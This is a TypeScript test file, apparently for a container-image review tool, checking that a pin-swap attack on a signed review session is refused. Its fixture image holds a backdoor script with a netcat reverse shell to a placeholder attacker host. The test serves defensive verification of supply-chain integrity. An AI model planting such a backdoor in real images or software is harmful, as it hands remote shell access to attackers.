/**
 * The attack (session 5 attacker review, finding 1): the reviewer creates a
 * session on image A and annotates it; whoever can push where the session and
 * the image live moves the tag to B, builds a fresh session on B and copies
 * the reviewer's annotations into it, at the same path. `approve` recomputes
 * everything on the pinned digests, so the file is self-consistent: without
 * the reviewer's own record of what they pinned, it would sign B.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { cpSync, mkdtempSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { writeMiniLayout, type MiniFile } from '../helpers/mini-layout.js';
import { runCli, spawnCli } from '../helpers/inspect.js';
import { recordPins } from '../../src/core/review/pin-journal.js';

const files =
  (extra: MiniFile[]) =>
  (): MiniFile[] => [{ path: 'etc/os-release', content: 'NAME=x\n' }, { path: 'bin/app', content: '#!/bin/sh\necho app\n', mode: 0o755 }, ...extra];

test('a session whose pins were swapped after the reviewer created it (annotations copied over) is refused by approve, naming both digests; refresh warns', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vouch-pin-swap-'));
  process.env.VOUCH_KEY_PASSWORD = 'pass phrase';
  const a = await writeMiniLayout(join(dir, 'img'), { tag: 'v2', platforms: [{ os: 'linux', architecture: 'amd64' }], files: files([]) });
  const evil = join(dir, 'evil');
  await writeMiniLayout(evil, { tag: 'v2', platforms: [{ os: 'linux', architecture: 'amd64' }], files: files([{ path: 'usr/local/bin/backdoor', content: '#!/bin/sh\nnc -e /bin/sh evil.example 4444\n', mode: 0o755 }]) });
  assert.equal((await runCli(['key', 'generate', '--out', join(dir, 'alice')])).code, 0);
  writeFileSync(join(dir, 'trust.yaml'), 'reviewers:\n  - {name: alice, key: ./alice.pub}\n');
  const release = join(dir, 'vouch.release.yaml');
  writeFileSync(release, 'name: app\nversion: 2.0.0\nimages:\n  app: oci:./img:v2\ntrust: ./trust.yaml\n');
  const session = join(dir, 'app-2.0.0.review.json');

  // The reviewer: session on A, the high findings accepted as risks.
  const init = await runCli(['session', 'init', '--release', release]);
  assert.equal(init.code, 0, init.stderr);
  const pinnedA = JSON.parse(readFileSync(session, 'utf8')).images[0].digest as string;
  assert.equal(pinnedA, a.images[0]!.manifestDigest);
  for (const id of ['VCH-PV-001', 'VCH-LP-001']) {
    const r = await runCli(['annotate', '--session', session, '--check', id, '--disposition', 'accepted-risk', '--text', `ok ${id}`, '--author', 'alice']);
    assert.equal(r.code, 0, r.stderr);
  }

  // The attacker, on their own machine: tag moved to B, a fresh session on B with the reviewer's annotations, same path.
  for (const f of readdirSync(join(evil, 'blobs', 'sha256'))) cpSync(join(evil, 'blobs', 'sha256', f), join(dir, 'img', 'blobs', 'sha256', f));
  cpSync(join(evil, 'index.json'), join(dir, 'img', 'index.json'));
  const fresh = join(mkdtempSync(join(tmpdir(), 'vouch-attacker-')), 'fresh.json');
  const theirs = await spawnCli(['session', 'init', '--release', release, '--out', fresh], { VOUCH_STATE_DIR: mkdtempSync(join(tmpdir(), 'vouch-attacker-state-')) });
  assert.equal(theirs.code, 0, theirs.stderr);
  const swapped = JSON.parse(readFileSync(fresh, 'utf8'));
  const mine = JSON.parse(readFileSync(session, 'utf8'));
  writeFileSync(session, JSON.stringify({ ...swapped, annotations: mine.annotations, createdAt: mine.createdAt }, null, 2));
  const pinnedB = swapped.images[0].digest as string;
  assert.notEqual(pinnedB, pinnedA);

  const refused = await runCli(['approve', '--session', session, '--decision', 'approved-with-exceptions', '--key', join(dir, 'alice.key'), '--json']);
  assert.equal(refused.code, 1, refused.stderr);
  assert.match(refused.stderr, new RegExp(`app: the session pins ${pinnedB}, but this machine pinned ${pinnedA} for this release`));
  assert.equal(JSON.parse(refused.stdout).refused, 'PINS_CHANGED');
  assert.deepEqual(readdirSync(dir).filter((f) => f.endsWith('.sigstore.json')), [], 'nothing signed');

  // Refreshing the swapped file says so loudly.
  const refresh = await runCli(['session', 'init', '--release', release, '--out', session]);
  assert.match(refresh.stderr, /WARNING: app: the session pins .* but this machine pinned .*; the file was replaced or edited, and approve will refuse it/);

  // A session this machine created on B itself is B's review: approve signs it and names the digest it signs.
  const mineOnB = join(dir, 'b.review.json');
  assert.equal((await runCli(['session', 'init', '--release', release, '--out', mineOnB])).code, 0);
  for (const id of ['VCH-PV-001', 'VCH-LP-001', 'VCH-LP-003']) await runCli(['annotate', '--session', mineOnB, '--check', id, '--disposition', 'accepted-risk', '--text', 'ok', '--author', 'alice']);
  const ok = await runCli(['approve', '--session', mineOnB, '--decision', 'approved-with-exceptions', '--key', join(dir, 'alice.key'), '--out', join(dir, 'b.sigstore.json')]);
  assert.equal(ok.code, 0, ok.stderr);
  assert.match(ok.stdout, new RegExp(`^subject   img:v2 sha256:${pinnedB.slice(7)}$`, 'm'));
  assert.doesNotMatch(ok.stderr, /did not create/);

  // The same swap behind a symlink (the attacker commits app-2.0.0.review.json as a link to their own file): the pins
  // are matched by release, not by path, so the file is still refused.
  const theirsAtPath = join(dir, '.vouch-theirs.review.json');
  writeFileSync(theirsAtPath, JSON.stringify({ ...swapped, annotations: mine.annotations }, null, 2));
  const linked = join(dir, 'linked.review.json');
  symlinkSync(theirsAtPath, linked);
  // (this machine pinned B for app 2.0.0 above, legitimately: a fresh machine state shows the attack)
  const fresh2 = mkdtempSync(join(tmpdir(), 'vouch-pin-state-'));
  const reviewer = (args: string[]) => spawnCli(args, { VOUCH_STATE_DIR: fresh2 });
  // The reviewer's machine pinned A for app 2.0.0 (its own session, elsewhere).
  await recordPins(join(dir, 'again.review.json'), { release: { name: 'app', version: '2.0.0' }, images: [{ key: 'app', digest: pinnedA }] }, { VOUCH_STATE_DIR: fresh2 });
  const viaLink = await reviewer(['approve', '--session', linked, '--decision', 'approved-with-exceptions', '--key', join(dir, 'alice.key'), '--json']);
  assert.equal(viaLink.code, 1, viaLink.stderr);
  assert.equal(JSON.parse(viaLink.stdout).refused, 'PINS_CHANGED');

  // A session of a release this machine never pinned (a colleague's, or one renamed): refused unless --accept-pins,
  // which lists the digests it signs.
  const renamed = join(dir, 'renamed.review.json');
  const other = JSON.parse(readFileSync(mineOnB, 'utf8'));
  writeFileSync(join(dir, 'renamed.release.yaml'), readFileSync(release, 'utf8').replace('name: app', 'name: app-renamed'));
  writeFileSync(renamed, JSON.stringify({ ...other, release: { ...other.release, name: 'app-renamed', file: { ...other.release.file, path: join(dir, 'renamed.release.yaml'), digest: `sha256:${createHash('sha256').update(readFileSync(join(dir, 'renamed.release.yaml'))).digest('hex')}` } } }, null, 2));
  const unknown = await runCli(['approve', '--session', renamed, '--decision', 'approved-with-exceptions', '--key', join(dir, 'alice.key'), '--out', join(dir, 'u.sigstore.json'), '--json']);
  assert.equal(unknown.code, 1, unknown.stderr);
  assert.equal(JSON.parse(unknown.stdout).refused, 'PINS_UNKNOWN');
  assert.match(unknown.stderr, new RegExp(`never pinned the images of app-renamed 2\\.0\\.0 .*\\n  app ${pinnedB}\\n.*--accept-pins`));
  const accepted = await runCli(['approve', '--session', renamed, '--decision', 'approved-with-exceptions', '--key', join(dir, 'alice.key'), '--out', join(dir, 'u.sigstore.json'), '--accept-pins']);
  assert.equal(accepted.code, 0, accepted.stderr);
  assert.match(accepted.stderr, new RegExp(`--accept-pins: signing the digests of a session this machine did not create:\\n  app ${pinnedB}`));
});
